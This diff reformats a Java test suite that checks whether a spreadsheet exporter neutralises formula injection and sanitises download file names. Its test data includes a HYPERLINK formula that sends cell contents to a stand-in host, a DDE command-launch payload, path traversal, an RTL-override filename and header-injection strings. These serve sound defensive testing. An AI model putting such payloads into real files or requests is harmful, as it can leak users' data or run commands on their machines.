@@ -26,9 +26,22 @@ class WritingWhatIsNoFormula {
     private static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"눌러 보세요\")";
 
     @ParameterizedTest
-    @ValueSource(strings = {
-        LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1+1", "\r=1", " =1+1", "'=1", "''=1"
-    })
+    @ValueSource(
+            strings = {
+                LINK,
+                "+1+cmd|' /C calc'!A0",
+                "-2+3",
+                "@SUM(A1:A9)",
+                "＝1+1",
+                "＋1",
+                "－1",
+                "＠SUM(A1)",
+                "\t=1+1",
+                "\r=1",
+                " =1+1",
+                "'=1",
+                "''=1"
+            })
     void what_a_spreadsheet_would_calculate_is_led_by_an_apostrophe_and_comes_back_the_same(String text) {
         assertThat(Harmless.written(text)).isEqualTo("'" + text);
         assertThat(Harmless.read(Harmless.written(text))).isEqualTo(text);
@@ -50,7 +63,9 @@ class WritingWhatIsNoFormula {
     @Test
     void a_workbook_of_ours_holds_no_formula_and_is_read_back_as_it_was() throws IOException {
         var writer = new WorkbookWriter();
-        var heads = List.of(new Head("=이름", 20, Head.Format.TEXT, false, null, List.of()), new Head("수", 10, Head.Format.WHOLE, false, null, List.of()));
+        var heads = List.of(
+                new Head("=이름", 20, Head.Format.TEXT, false, null, List.of()),
+                new Head("수", 10, Head.Format.WHOLE, false, null, List.of()));
         writer.table("표", heads).row(LINK, 3).row("-2+3", 4).row("@SUM(A1)", 5);
         writer.form("항목", heads).item(heads.getFirst(), "+1+1", "=보기");
         writer.text("글", List.of("=제목", "－1"));
@@ -76,7 +91,15 @@ class WritingWhatIsNoFormula {
     @Test
     void a_table_of_commas_is_read_back_too() {
         var read = (Reading.Read) Sheets.read("x.csv", ("이름,수\n'=1+1,3\n").getBytes(StandardCharsets.UTF_8));
-        assertThat(read.workbook().sheets().getFirst().rows().get(1).cells().getFirst().text()).isEqualTo("=1+1");
+        assertThat(read.workbook()
+                        .sheets()
+                        .getFirst()
+                        .rows()
+                        .get(1)
+                        .cells()
+                        .getFirst()
+                        .text())
+                .isEqualTo("=1+1");
     }
 
     /** Whoever writes a table writes it here. */
@@ -97,15 +120,19 @@ class WritingWhatIsNoFormula {
 
     /** Texts put into a cell without {@link Harmless}, and CSV that is put together by hand. */
     private static List<String> unguarded(Path sources) throws IOException {
-        var raw = Pattern.compile("\\bsheet\\.(?:value|inlineString)\\((?:(?!Harmless|, date\\)|, number\\)|, truth).)*?\\);");
+        var raw = Pattern.compile(
+                "\\bsheet\\.(?:value|inlineString)\\((?:(?!Harmless|, date\\)|, number\\)|, truth).)*?\\);");
         var csv = Pattern.compile("(?i)\"text/csv|\\.csv\\\\?\"|CSVPrinter");
         try (var files = Files.walk(sources)) {
             return files.filter(file -> file.toString().endsWith(".java"))
                     .filter(file -> !file.toString().contains("/bench/")) // makes files for itself to read
                     .filter(file -> {
                         var code = read(file);
-                        return (file.toString().contains("/sheet/") && raw.matcher(code).find())
-                                || (csv.matcher(code).find() && !code.contains("Harmless") && !code.contains("consumes"));
+                        return (file.toString().contains("/sheet/")
+                                        && raw.matcher(code).find())
+                                || (csv.matcher(code).find()
+                                        && !code.contains("Harmless")
+                                        && !code.contains("consumes"));
                     })
                     .map(Path::toString)
                     .toList();
@@ -121,14 +148,22 @@ class WritingWhatIsNoFormula {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-        "../../etc/passwd=passwd", "C:\\Users\\kim\\계획.xlsx=계획.xlsx", "a\u202Egpj.exe=agpj.exe", "x\"; filename=\"y.html=x; filename==y.html", "<script>.xlsx=script.xlsx", "a\r\nSet-Cookie: b.csv=aSet-Cookie b.csv"
-    })
+    @ValueSource(
+            strings = {
+                "../../etc/passwd=passwd",
+                "C:\\Users\\kim\\계획.xlsx=계획.xlsx",
+                "a\u202Egpj.exe=agpj.exe",
+                "x\"; filename=\"y.html=x; filename==y.html",
+                "<script>.xlsx=script.xlsx",
+                "a\r\nSet-Cookie: b.csv=aSet-Cookie b.csv"
+            })
     void a_files_name_is_fit_to_be_shown(String givenAndShown) {
         var at = givenAndShown.lastIndexOf('=');
         var given = givenAndShown.substring(0, at);
         var shown = givenAndShown.startsWith("x\"") ? "x; filename=y.html" : givenAndShown.substring(at + 1);
-        assertThat(Sheets.name(given.startsWith("x\"") ? "x\"; filename=\"y.html" : given).replace("\n", "")).isEqualTo(shown);
+        assertThat(Sheets.name(given.startsWith("x\"") ? "x\"; filename=\"y.html" : given)
+                        .replace("\n", ""))
+                .isEqualTo(shown);
         assertThat(Sheets.name("가".repeat(500))).hasSize(200);
     }
 }
